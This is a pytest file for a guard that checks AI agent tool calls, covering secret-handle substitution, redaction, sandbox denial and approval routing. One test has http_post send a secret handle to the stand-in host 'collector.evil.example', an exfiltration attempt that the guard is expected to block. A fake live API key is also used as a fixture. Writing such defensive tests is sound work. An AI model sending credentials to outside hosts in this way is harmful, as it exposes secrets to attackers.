"""The Guard wires the secret broker, the sandbox executor and the approval queue in:
handles are checked before deciding and substituted only right before the call runs,
results and errors are redacted, an unrunnable sandbox profile is a recorded deny, and an
approver learns the Guard's audit log and sees the resources the policy derived."""

from __future__ import annotations

import asyncio
from typing import Any

import pytest
from nacl.signing import SigningKey

import ringfence
from ringfence.core.action import Action
from ringfence.core.decision import Decision
from ringfence.errors import ConfigError, DeniedError, SecretError
from ringfence.runtime import broker as broker_module
from ringfence.runtime.audit import AuditLog
from ringfence.runtime.broker import SecretBroker
from ringfence.runtime.guard import SANDBOX_RULE, SECRET_RULE, Guard
from ringfence.runtime.ports import ApprovalAnswer
from ringfence.runtime.sandbox import executor as executor_module
from ringfence.runtime.sandbox.executor import SandboxExecutor
from ringfence.runtime.sandbox.profile import profiles_from_text
from ringfence.runtime.secrets import MemorySource
from ringfence.stores.memory import MemoryAuditStore
from ringfence.testing.sandbox import FakeSandbox

from ._support import FixedClock, records_of

POLICY = """\
version: 1
tools:
  http_post:
    args:
      type: object
      properties: {url: {type: string}, token: {type: string}}
    resources: {url: url}
  echo:
    args: {type: object, properties: {text: {type: string}}}
  run_code:
    args: {type: object, properties: {code: {type: string}}}
  delete_file:
    args: {type: object, properties: {path: {type: string}}}
    resources: {path: path}
secrets:
  stripe_key: {tools: [http_post], hosts: [api.stripe.com]}
rules:
  - {id: post, effect: allow, tool: http_post}
  - {id: echo, effect: allow, tool: echo}
  - {id: code, effect: allow, tool: run_code, sandbox: strict}
  - {id: delete, effect: require_approval, tool: delete_file}
"""
VALUE = "sk_live_51HqLrT2eZvKYlo2CabcDEF"
HANDLE = "rf-secret:stripe_key"
policy = ringfence.policy_from_text(POLICY)
PROFILES = """\
sandbox:
  profiles:
    strict: {tier: bwrap, network: none}
"""


def audit() -> AuditLog:
    return AuditLog(MemoryAuditStore(log_id="t"), SigningKey.generate(), clock=FixedClock())


@pytest.fixture
def guard() -> Guard:
    broker = SecretBroker(MemorySource({"stripe_key": VALUE}), policy.spec.secrets)
    return Guard(policy, audit=audit(), clock=FixedClock(), secrets=broker)


def test_the_rule_ids_are_the_components_own() -> None:
    assert SECRET_RULE == broker_module.SECRET_RULE
    assert SANDBOX_RULE == executor_module.SANDBOX_RULE


def test_a_handle_is_substituted_only_for_the_call(guard: Guard) -> None:
    seen: list[str] = []

    @guard.protect
    def http_post(url: str, token: str) -> str:
        seen.append(token)
        return "ok"

    assert http_post("https://api.stripe.com/v1/charges", HANDLE) == "ok"
    assert seen == [VALUE]
    text = repr(records_of(guard.audit))
    assert HANDLE in text
    assert VALUE not in text


def test_a_handle_for_another_host_is_denied_before_the_call(guard: Guard) -> None:
    calls: list[str] = []

    @guard.protect
    def http_post(url: str, token: str) -> str:
        calls.append(token)
        return "ok"

    with pytest.raises(DeniedError) as info:
        http_post("https://collector.evil.example/x", HANDLE)
    assert info.value.decision.rules == (SECRET_RULE,)
    assert info.value.decision.reasons[0].startswith("secret.")
    assert calls == []
    (record,) = records_of(guard.audit, "decision")
    assert record["effect"] == "deny"


def test_a_handle_for_a_tool_without_the_grant_is_denied(guard: Guard) -> None:
    @guard.protect
    def echo(text: str) -> str:
        return text

    with pytest.raises(DeniedError) as info:
        echo(f"here: {HANDLE}")
    assert info.value.decision.rules == (SECRET_RULE,)


def test_the_secret_value_in_arguments_is_denied(guard: Guard) -> None:
    @guard.protect
    def echo(text: str) -> str:
        return text

    with pytest.raises(DeniedError) as info:
        echo(f"the key is {VALUE}")
    assert "secret.value_in_arguments" in info.value.decision.reasons[0]
    assert VALUE not in repr(records_of(guard.audit))


def test_a_result_holding_the_secret_is_redacted_and_labels_the_session(guard: Guard) -> None:
    @guard.protect
    def http_post(url: str, token: str) -> dict[str, Any]:
        return {"echo": token}

    with guard.context(session="s1"):
        result = http_post("https://api.stripe.com/v1/charges", HANDLE)
    assert VALUE not in repr(result)
    assert "secret" in guard.session_labels("s1")
    assert VALUE not in repr(records_of(guard.audit))


def test_an_error_holding_the_secret_is_scrubbed(guard: Guard) -> None:
    @guard.protect
    def http_post(url: str, token: str) -> str:
        raise RuntimeError(f"401 for key {token}")

    with pytest.raises(SecretError) as info:
        http_post("https://api.stripe.com/v1/charges", HANDLE)
    assert VALUE not in str(info.value)
    assert info.value.__cause__ is None
    (outcome,) = records_of(guard.audit, "outcome")
    assert VALUE not in repr(outcome)


def test_an_error_without_a_secret_is_raised_unchanged(guard: Guard) -> None:
    @guard.protect
    def echo(text: str) -> str:
        raise ValueError("plain failure")

    with pytest.raises(ValueError, match="plain failure"):
        echo("hello")


def test_async_tools_get_the_same_treatment(guard: Guard) -> None:
    seen: list[str] = []

    @guard.protect
    async def http_post(url: str, token: str) -> dict[str, str]:
        seen.append(token)
        return {"echo": token}

    result = asyncio.run(http_post("https://api.stripe.com/v1/charges", HANDLE))
    assert seen == [VALUE]
    assert VALUE not in repr(result)


def sandboxed_guard(sandbox: FakeSandbox) -> Guard:
    executor = SandboxExecutor(sandbox, profiles_from_text(PROFILES))
    return Guard(policy, audit=audit(), clock=FixedClock(), sandbox=executor)


def test_an_unrunnable_sandbox_profile_is_a_recorded_deny() -> None:
    guard = sandboxed_guard(FakeSandbox(unavailable=frozenset({"bwrap"})))
    decision = guard.check(guard.action("run_code", {"code": "print(1)"}))
    assert decision.rules == (SANDBOX_RULE,)
    assert decision.reasons[0].startswith("sandbox.unavailable")
    (record,) = records_of(guard.audit, "decision")
    assert (record["effect"], record["rules"]) == ("deny", [SANDBOX_RULE])


def test_a_runnable_profile_keeps_the_allow_and_its_obligation() -> None:
    guard = sandboxed_guard(FakeSandbox())
    decision = guard.check(guard.action("run_code", {"code": "print(1)"}))
    assert decision.allowed
    assert decision.obligations.sandbox == "strict"


def test_a_policy_naming_an_undefined_profile_is_refused_at_construction() -> None:
    executor = SandboxExecutor(FakeSandbox(), {})
    with pytest.raises(ConfigError):
        Guard(policy, audit=audit(), sandbox=executor)


class RecordingApprover:
    def __init__(self) -> None:
        self.bound: AuditLog | None = None
        self.asked: list[Action] = []

    def bind_audit(self, log: AuditLog) -> None:
        self.bound = log

    def __call__(self, action: Action, decision: Decision) -> ApprovalAnswer:
        self.asked.append(action)
        return ApprovalAnswer(False, "reviewer", "no")


def test_the_approver_is_bound_to_the_log_and_sees_derived_resources() -> None:
    approver = RecordingApprover()
    guard = Guard(policy, audit=audit(), approver=approver)
    assert approver.bound is guard.audit
    decision = guard.check(guard.action("delete_file", {"path": "/data/report.txt"}))
    assert not decision.allowed
    (asked,) = approver.asked
    assert [str(r) for r in asked.resources] == ["path:/data/report.txt"]
